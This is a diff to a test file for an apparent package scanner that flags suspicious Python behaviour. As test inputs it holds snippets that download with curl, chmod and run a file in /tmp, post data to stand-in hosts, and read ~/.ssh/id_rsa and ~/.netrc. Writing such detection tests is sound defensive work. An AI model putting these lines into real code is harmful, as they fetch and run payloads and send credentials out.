@@ -80,6 +80,12 @@ test("only the first use of a module is news, later ones are notices", () => {
   expect(atLeast(after, "warning").every(isKnown)).toBe(true);
 });
 
+test("writing a temporary file is not suspicious", () => {
+  const base = "import subprocess\ndef a(x): subprocess.run(x)\n";
+  const text = "def f(): subprocess.run(['gnuplot', '-o', '/tmp/plot.png'])\n";
+  expect(atLeast(inModule(base + text), "warning")).toHaveLength(1);
+});
+
 test("what flit leaves out of the wheel is the project's own", () => {
   const backend = (name: string) => `[build-system]\nbuild-backend = "${name}"\n[project]\nname = "orchard"\n`;
   const files = (project: string) => ({
@@ -100,6 +106,8 @@ describe("a later use is a warning if its details are suspicious", () => {
   test.each([
     ["def f(): subprocess.run('curl -o x http://a.example/x', shell=True)", "process"],
     ["def f(): subprocess.run([sys.executable, '-m', 'pip install', name])", "process"],
+    ["def f(): subprocess.run('chmod 700 /tmp/x', shell=True)", "process"],
+    ["def f(): subprocess.run(['/tmp/x'])", "process"],
     ["CMD = 'powershell -Command x'\ndef f(): subprocess.Popen(CMD)", "process"],
     ["def f(data): requests.post('https://collect.example/', data)", "network"],
     ["def f(data): requests.post(f'http://203.0.113.7:8080/{data}')", "network"],
@@ -186,6 +194,9 @@ describe("environment, home folder", () => {
     ["from pathlib import Path\ndef f(): return Path.home()", "notice home-folder pathlib.Path.home"],
     ["def f(): return open('/home/x/.ssh/id_rsa')", "warning home-folder .ssh"],
     ["def f(): return open('/home/x/.bashrc', 'a')", "warning home-folder .bashrc"],
+    ["def f(): return open('/home/x/.netrc')", "warning home-folder .netrc"],
+    ["def f(path='~/.netrc'): return path", "notice home-folder .netrc"],
+    ["import os\ndef f(): return os.environ['ORCHARD_SORT_KEY']", "notice environment ORCHARD_SORT_KEY"],
   ])("%j is %j", (text, expected) => {
     expect(found(inModule(text))).toContain(expected);
   });
